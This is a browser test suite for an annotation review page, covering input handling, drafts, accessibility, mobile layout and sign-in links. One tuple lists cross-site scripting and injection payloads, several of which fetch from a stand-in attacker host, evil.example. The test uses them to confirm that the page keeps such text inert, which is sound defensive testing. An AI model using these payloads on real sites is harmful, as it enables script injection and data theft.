"""The review page in a real headless Chromium: keys, mouse, touch width, drafts, and text that would like to run."""

from __future__ import annotations

import contextlib
import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tasks.kinds import KINDS, checked
from tests.browser import Desk, chromium, served
from tests.outbox import BATCH, CATALOGUE, CONTEXTS, QUESTION, RESPONSE, answers, ask, workspace, write

pytestmark = pytest.mark.slow
APPROVED = {a.id for a in CATALOGUE}
Open = Callable[..., Desk]


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    path = chromium()
    from playwright.sync_api import sync_playwright

    # As root, as in a container, Chromium has no sandbox of its own; it sees pages of ours only.
    arguments = ["--no-sandbox"] if os.geteuid() == 0 else []
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=path, args=arguments)
        yield browser
        browser.close()


@pytest.fixture
def desk(browser: Any, tmp_path: Path) -> Iterator[Callable[..., Desk]]:
    """Opens the page for another person; keywords of the browser's context, or of the server."""
    with contextlib.ExitStack() as stack:
        place = workspace(tmp_path)
        address = stack.enter_context(served(place))

        def opened(**context: Any) -> Desk:
            return Desk(stack.enter_context(contextlib.closing(browser.new_context(**context))).new_page(), address, place)

        yield opened


def span(text: str, part: str, **more: Any) -> dict[str, Any]:
    return {"start": text.index(part), "end": text.index(part) + len(part), "text": part, **more}


def typed(d: Desk, words: str, *keys: str) -> None:
    d.page.keyboard.type(words)
    d.press(*keys)


# What a person presses, and the answer that it makes.
BY_KEYBOARD: dict[str, tuple[Callable[[Desk], None], Any]] = {
    "answer": (
        lambda d: (d.press("2", "ArrowDown"), typed(d, "refund arrives", "Enter", "Enter")),
        {"verdict": "wrong", "correction": "billing-refund-time"},
    ),
    "correction": (
        lambda d: (d.press("Control+A"), typed(d, "Within 14 days. gsu?1", "Escape", "ArrowDown", "1", "5", "Enter")),
        {"text": "Within 14 days. gsu?1", "errors": ["factual", "policy"]},
    ),
    "ranking": (lambda d: d.press("2", "1", "2", "x", "Enter"), None),
    "spans": (
        lambda d: d.press(
            *["ArrowRight"] * 4, "Shift+ArrowRight", "1", "c", "ArrowRight", "e", *["ArrowUp"] * 2, "End", "2", "Enter"
        ),
        {
            "spans": [
                span(RESPONSE, "30 days", label="contradicted",
                     evidence={"context": 0, **span(CONTEXTS[0]["text"], "Refunds are possible for 14 days.")}),
                span(RESPONSE, "top", label="unsupported"),
            ]
        },
    ),
    "grounded": (lambda d: d.press("2", "Enter"), {"grounded": "not_grounded"}),
    "safety": (lambda d: d.press("0", "Enter"), {"policies": []}),
    "action": (lambda d: d.press("4", "ArrowDown", "2", "Enter"), {"action": "escalate", "route": "billing"}),
    "relevance": (lambda d: d.press("3", "0", "Enter"), {"grades": {"0": 3, "1": 0}}),
    "rubric": (
        lambda d: d.press(*"5432154", "Enter"),
        dict(zip([f.name for f in KINDS["rubric"].fields], [5, 4, 3, 2, 1, 5, 4], strict=True)),
    ),
    "intent": (lambda d: d.press("3", "Enter"), {"intent": "complaint"}),
    "sentiment": (lambda d: d.press("1", "Enter"), {"sentiment": "negative"}),
    "topics": (lambda d: d.press("1", "2", "3", "2", "Enter"), {"topics": ["account", "billing"]}),
    "entities": (
        lambda d: d.press(*["ArrowRight"] * 4, "Shift+ArrowRight", "1", "Enter"),
        {"entities": [span(QUESTION, "Ana Lima", label="person")]},
    ),
    "note": (lambda d: typed(d, "s: a strange one", "Control+Enter"), {"note": "s: a strange one"}),
}  # fmt: skip


def test_there_are_keys_for_every_kind():
    assert set(BY_KEYBOARD) == set(KINDS)


@pytest.mark.parametrize("kind", KINDS)
def test_each_kind_is_answered_by_keyboard(desk: Open, kind: str):
    press, expected = BY_KEYBOARD[kind]
    d = desk()
    one = ask(kind)
    write(d.place, [one])
    d.sign_in()
    d.page.locator(".ask").wait_for()
    press(d)
    d.says("Saved.")
    (line,) = answers(d.place)
    assert checked(KINDS[kind], line["value"], one, APPROVED) == line["value"]
    if expected is not None:
        assert line["value"] == expected
    else:
        first, second, third = line["shown"]
        assert line["value"] == {"ranks": [[second], sorted([first, third])], "unacceptable": [third]}
    assert (line["annotator"], line["status"], line["guideline"]) == ("ana", "submitted", "answer/1")
    assert d.quiet(), d.errors


def drag(d: Desk, where: str, part: str) -> None:
    """Select a part of a text with the real mouse."""
    box = d.page.locator(where).evaluate(
        """(node, part) => {
            const walker = document.createTreeWalker(node, NodeFilter.SHOW_TEXT);
            for (let text; (text = walker.nextNode()); ) {
                const at = text.data.indexOf(part);
                if (at < 0) continue;
                const range = document.createRange();
                range.setStart(text, at); range.setEnd(text, at + part.length);
                node.scrollIntoView({block: "center"});
                const r = range.getBoundingClientRect();
                return [r.left, r.top + r.height / 2, r.right];
            }
        }""",
        part,
    )
    d.page.mouse.move(box[0] + 1, box[1])
    d.page.mouse.down()
    d.page.mouse.move(box[2] - 1, box[1], steps=5)
    d.page.mouse.up()


def test_passages_are_marked_by_mouse_after_emoji_and_line_ends_and_taken_away_again(desk: Open):
    d = desk()
    one = ask("spans")
    write(d.place, [one])
    d.sign_in()
    answer = ".turn.assistant.asked .passage"
    drag(d, answer, "30 days")
    d.page.locator("#palette button", has_text="contradicted").click()
    drag(d, ".source:first-of-type .passage", "possible for 14 days")
    d.page.locator("#palette button", has_text="Evidence").click()
    drag(d, answer, "bonus of 5 €")
    d.page.locator("#palette button", has_text="unsupported").click()
    drag(d, answer, "your card")
    d.page.locator("#palette button", has_text="unverifiable").click()
    assert d.page.locator("mark").all_inner_texts() == ["30 days", "your card", "bonus of 5 €"]
    d.page.get_by_role("button", name="Remove mark 2").click()
    d.page.click("#save")
    d.says("Saved.")
    (line,) = answers(d.place)
    evidence = {"context": 0, **span(CONTEXTS[0]["text"], "possible for 14 days")}
    assert line["value"]["spans"] == [
        span(RESPONSE, "30 days", label="contradicted", evidence=evidence),
        span(RESPONSE, "bonus of 5 €", label="unsupported"),
    ]
    assert d.quiet(), d.errors


def test_a_selection_that_cuts_into_what_is_marked_and_into_emoji_stays_whole(desk: Open):
    d = desk()
    write(d.place, [ask("spans")])
    d.sign_in()
    d.press(*["ArrowRight"] * 4, "1", "ArrowLeft", "Shift+ArrowRight", "Shift+ArrowRight", "2")
    d.page.locator(".passage.open").first.evaluate(
        """node => { const text = node.firstChild; const at = text.data.indexOf("😀");
                     getSelection().setBaseAndExtent(text, at + 1, text, at + 3); }"""
    )
    d.press("3", "Enter")
    d.says("Saved.")
    marked = answers(d.place)[0]["value"]["spans"]
    assert marked[0]["text"] == "😀👍"
    assert all(RESPONSE[s["start"] : s["end"]] == s["text"] for s in marked) and len(marked) == 3


def test_a_draft_survives_a_reload_and_goes_when_saved(desk: Open):
    d = desk()
    write(d.place, [ask("spans"), ask("correction"), ask("rubric")])
    d.sign_in()
    d.press(*["ArrowRight"] * 4, "1", "ArrowDown")
    typed(d, "Draft ", "Escape", "ArrowDown", "ArrowDown", "3")
    d.page.reload()
    d.says("Your draft is back.")
    assert d.page.locator("mark").inner_text() == "30"
    assert d.page.locator(".field.text textarea").input_value().find("Draft ") >= 0
    assert d.page.locator("input[value='3']:checked").count() == 1
    d.press("0")  # nothing is selected: there is nothing to mark
    d.page.locator(".ask").nth(2).locator("fieldset").first.focus()
    d.press(*"4444444", "Enter")
    d.says("Saved.")
    assert {a["kind"] for a in answers(d.place)} == {"spans", "correction", "rubric"}
    assert d.page.evaluate("Object.keys(localStorage).filter(k => k.startsWith('review/')).length") == 0


def test_an_answer_is_looked_at_again_changed_taken_back_and_given_anew(desk: Open):
    d = desk()
    write(d.place, [ask("grounded", "in_1"), ask("grounded", "in_2")])
    d.sign_in()
    d.press("1", "Enter")
    d.says("Saved.")
    d.press("u")
    d.says("Your earlier answer")
    d.press("2", "Enter")
    d.says("Saved.")
    d.press("u")
    d.says("Your earlier answer")
    assert d.page.locator("input:checked").get_attribute("value") == "not_grounded"
    d.page.click("#take-back")
    d.says("Taken back.")
    told = [(a["candidate_id"], a["status"], a["value"]) for a in answers(d.place)]
    first = told[0][0]
    assert told == [(first, "submitted", {"grounded": "grounded"}), (first, "submitted", {"grounded": "not_grounded"}),
                    (first, "withdrawn", {})]  # fmt: skip
    d.press("1", "Enter")  # the other one, and then the first again
    d.says("Saved.")
    d.press("1", "Enter")
    d.page.locator("#done").wait_for()
    assert [a["candidate_id"] for a in answers(d.place)].count(first) == 4


def test_one_is_skipped_with_a_reason(desk: Open):
    d = desk()
    write(d.place, [ask("grounded"), ask("note")])
    d.sign_in()
    d.press("1", "ArrowDown", "Escape", "s", "2", "Enter")
    d.page.locator(".skipped", has_text="do not suffice").wait_for()
    d.press("Enter")
    d.says("Saved.")
    one, other = answers(d.place)
    assert (one["status"], other["status"], other["note"]) == (
        "submitted", "skipped", "The conversation or the sources do not suffice",
    )  # fmt: skip


def test_what_lacks_is_said_and_nothing_is_sent(desk: Open):
    d = desk()
    write(d.place, [ask("safety"), ask("relevance")])
    d.sign_in()
    d.press("Enter")
    d.page.locator(".error", has_text="0 for none").wait_for()
    d.press("0", "Enter")
    d.page.locator(".error", has_text="Grade every document").wait_for()
    assert answers(d.place) == []


def test_a_server_that_is_gone_takes_nothing_with_it(desk: Open):
    d = desk()
    write(d.place, [ask("grounded")])
    d.sign_in()
    d.page.route("**/api/answers", lambda route: route.abort())
    d.press("1", "Enter")
    d.says("kept here")
    d.page.unroute("**/api/answers")
    d.press("Enter")
    d.says("Saved.")
    assert len(answers(d.place)) == 1


def test_help_guideline_and_progress_open_by_key_and_show_no_names(desk: Open):
    d = desk()
    asks = [ask("grounded", f"in_{i}", wanted=3) for i in range(6)]
    write(d.place, asks)
    for name in ("bob", "eve"):
        for a in asks:
            line = {"batch_id": BATCH, "candidate_id": a.candidate_id, "kind": "grounded", "content_hash": a.content_hash,
                    "annotator": name, "value": {"grounded": "grounded"}, "time": "2026-01-06T09:00:00Z"}  # fmt: skip
            d.place.answers.mkdir(exist_ok=True)
            with (d.place.answers / "elsewhere.jsonl").open("a", encoding="utf-8") as f:
                f.write(json.dumps(line) + "\n")
    d.sign_in()
    d.press("g")
    d.page.locator("#guideline h3", has_text="Guideline answer/1").wait_for()
    assert d.page.locator("#guideline strong").inner_text() == "alone"
    d.press("g", "p")
    shown = d.page.locator("#progress-body")
    shown.locator("td", has_text="100 %").wait_for()
    assert "6 questions: 0 complete, 6 open · 0 answered by you" in shown.inner_text()
    assert "bob" not in d.page.content() and "eve" not in shown.inner_text()
    d.press("Escape", "?")
    d.page.locator("#help").wait_for()
    d.press("1", "Escape")  # keys of a dialog are not keys of the page behind it
    assert d.page.locator("input:checked").count() == 0


def test_an_expert_sees_the_votes_and_no_names(desk: Open):
    d = desk()
    write(d.place, [ask("grounded", wanted=1)])
    d.sign_in("bob").press("2", "n")
    typed(d, "<b>not in there</b>", "Control+Enter")
    d.says("Saved.")
    write(d.place, [ask("grounded", ask_id="ak_x", role="expert", round=2, wanted=1, answered_by=["bob"])])
    other = desk().sign_in("carla")
    other.page.locator("#done").wait_for()
    expert = desk().sign_in("ana", expert=True)
    votes = expert.page.locator(".votes")
    assert "grounded: not grounded" in votes.inner_text() and "<b>not in there</b>" in votes.inner_text()
    assert "bob" not in expert.page.locator("#work").inner_text()
    expert.press("1", "Enter")
    expert.page.locator("#done").wait_for()
    assert answers(d.place, "ana")[0]["value"] == {"grounded": "grounded"}


BAD = (
    "<script>fetch('http://evil.example/s')</script>",
    "<img src=http://evil.example/i onerror=\"fetch('http://evil.example/e')\">",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<iframe srcdoc=\"<script>parent.alert(3)</script>\"></iframe>",
    "[link](javascript:alert(4)) <a href=\"javascript:alert(5)\">x</a> ![](http://evil.example/m)",
    "<style>@import 'http://evil.example/c';</style><link rel=stylesheet href=http://evil.example/l>",
    "</textarea></script><script>alert(6)</script>\"'><body onload=alert(7)>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example\"><base href=http://evil.example>",
    "{{constructor.constructor('alert(8)')()}} ${alert(9)} __proto__ &lt;b&gt;",
    "\u202etxt.exe\u202c \u2066hidden\u2069 a\u0000b\u2028c\ufeff",
)  # fmt: skip


def test_text_stays_text_wherever_it_comes_from(desk: Open):
    d = desk()
    bad = "\n".join(BAD)
    hostile: dict[str, Any] = {
        "question": bad, "response": bad, "guideline": "answer/1",
        "history": [{"role": bad, "content": bad}, {"role": "user", "content": [{"type": "image_url", "image_url": bad}]}],
        "contexts": [{"id": bad, "title": bad, "text": bad}, "no document", {"text": bad}],
        "answers": [{"id": "an_a", "text": bad}, {"id": "an_b", "text": bad}],
    }  # fmt: skip
    folder = write(d.place, [ask("ranking", **hostile), ask("spans", **hostile), ask("correction", **hostile)])
    (folder / "guidelines" / "answer-1.md").write_text(bad, encoding="utf-8")
    (folder / "catalogue.jsonl").write_bytes(b"")
    d.sign_in()
    d.page.locator(".ask").first.wait_for()
    d.press("g")
    d.page.locator("#guideline p").first.wait_for()
    shown = d.page.locator(".turn.assistant.asked .passage").evaluate("n => n.textContent")
    assert shown == bad
    assert d.page.locator(".turning").count() > 0
    d.press("1", "2")
    drag(d, ".turn.assistant.asked .passage", "evil.example/s")
    d.press("1", "n")
    typed(d, BAD[1], "Control+Enter")
    d.page.locator(".error", has_text="not changed the text").wait_for()
    d.press("Control+Enter")
    d.says("Saved.")
    kept = {a["kind"]: a for a in answers(d.place)}
    assert kept["correction"]["value"]["text"] == bad  # unchanged to the last character
    assert kept["spans"]["value"]["spans"][0]["text"] == "evil.example/s"
    # What people wrote is as little to be trusted, also where an expert reads it.
    write(d.place, [ask("spans", ask_id="ak_x", role="expert", round=2, wanted=1, answered_by=["ana"], **hostile)])
    expert = desk().sign_in("boss", expert=True)
    expert.page.locator(".votes li").wait_for()
    for one in (d, expert):
        assert one.quiet(), (one.errors, [u for u in one.asked if not u.startswith(one.address)])
        assert one.page.locator("iframe, img, svg, #work script, #work style, #work a, #work link").count() == 0


def test_the_page_may_not_run_or_load_anything_else(desk: Open):
    """That the policy holds: text as HTML, a script element and a request elsewhere are stopped by the browser itself."""
    d = desk()
    write(d.place, [ask("grounded")])
    d.sign_in()
    stopped = d.page.evaluate(
        """async () => {
            const stopped = [];
            document.addEventListener("securitypolicyviolation", (e) => stopped.push(e.effectiveDirective));
            try { document.body.innerHTML = "<b>x</b>"; } catch { stopped.push("innerHTML"); }
            const script = document.createElement("script");
            try { script.text = "window.ran = 1"; document.head.append(script); } catch { stopped.push("script"); }
            try { await fetch("http://127.0.0.1:9/"); } catch { stopped.push("fetch"); }
            const image = new Image(); image.src = "http://127.0.0.1:9/x.png";
            await new Promise((r) => setTimeout(r, 200));
            return [stopped, window.ran];
        }"""
    )
    assert {"innerHTML", "script", "fetch", "img-src"} <= set(stopped[0]) and stopped[1] is None


UNREADABLE = (Path(__file__).parent / "readable.js").read_text(encoding="utf-8").partition("\n")[2]
ALL_KINDS = [ask(kind) for kind in KINDS]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_control_has_a_name_and_every_text_is_readable(desk: Open, scheme: str):
    d = desk(color_scheme=scheme)
    write(d.place, ALL_KINDS)
    d.page.goto(d.address)
    d.page.locator("#sign-in").wait_for()
    assert d.page.evaluate(UNREADABLE) == []
    d.sign_in()
    d.press("2", "g")
    d.page.locator("#guideline h2").wait_for()
    drag(d, ".turn.assistant.asked .passage", "30 days")
    d.page.locator("#palette button").first.wait_for()
    assert d.page.evaluate(UNREADABLE) == []
    d.press("1")
    assert d.page.evaluate(UNREADABLE) == []
    for key in ("?", "p", "s"):
        d.press(key)
        d.page.locator("dialog[open]").wait_for()
        assert d.page.evaluate(UNREADABLE) == [], key
        d.press("Escape")
    assert d.page.locator("[id]").evaluate_all("all => all.length - new Set(all.map(n => n.id)).size") == 0


def test_every_control_is_reached_with_the_tab_key_and_shows_it(desk: Open):
    d = desk()
    write(d.place, [ask("answer"), ask("ranking")])
    d.sign_in()
    reached = set()
    for _ in range(60):
        d.press("Tab")
        seen = d.page.evaluate(
            """() => { const n = document.activeElement; const shows = n.closest(".option") ?? n;
                       return [n.id || n.name || n.textContent.slice(0, 30), getComputedStyle(shows).outlineStyle !== "none"]; }"""
        )
        reached.add(seen[0])
        assert seen[1] or seen[0].startswith("Skip to") or d.page.evaluate("document.activeElement === document.body"), seen
    assert {"show-guideline", "show-progress", "show-help", "sign-out", "save", "skip", "previous"} <= reached


def test_a_phone_is_wide_enough(desk: Open):
    d = desk(viewport={"width": 360, "height": 740}, has_touch=True, is_mobile=True)
    long = "Donaudampfschifffahrtsgesellschaftskapitän" * 6 + " https://example.org/" + "a" * 300
    write(d.place, [ask(kind, response=long, contexts=[{"id": "x" * 200, "text": long}]) for kind in KINDS])
    d.sign_in()
    d.page.locator(".ask").first.wait_for()
    wide = "() => [document.documentElement.scrollWidth, innerWidth]"
    assert d.page.evaluate(wide) == [360, 360]
    d.page.locator("label", has_text="wrong").tap()
    d.page.locator("#show-guideline").tap()
    d.page.locator("#guideline h2").wait_for()
    assert d.page.evaluate(wide) == [360, 360]
    small = d.page.locator("button:visible").evaluate_all("all => all.filter(n => n.getBoundingClientRect().height < 24).length")
    assert small == 0
    d.page.locator("#skip").tap()
    d.page.locator("#reasons label").first.tap()
    d.page.locator("#skip-now").tap()
    d.page.locator(".skipped").first.wait_for()
    assert d.page.evaluate(wide) == [360, 360]


def test_a_personal_link_signs_in_and_leaves_no_token_in_the_address(desk: Open):
    from tasks.live.review.roster import invite

    d = desk()
    write(d.place, [ask("grounded")])
    token = invite(d.place, "ana", expert=False)
    d.page.goto(f"{d.address}/?ana#{token}")
    d.page.locator(".ask").wait_for()
    assert d.page.url == f"{d.address}/"
    assert token not in " ".join(d.asked) and token not in d.page.content()
    assert d.page.evaluate("document.cookie") == ""
    d.page.reload()
    d.page.locator(".ask").wait_for()
    invite(d.place, "ana", expert=False)  # another link: this one ends, and what was begun stays
    d.press("1", "Enter")
    d.page.locator("#token").wait_for()
    assert answers(d.place) == []
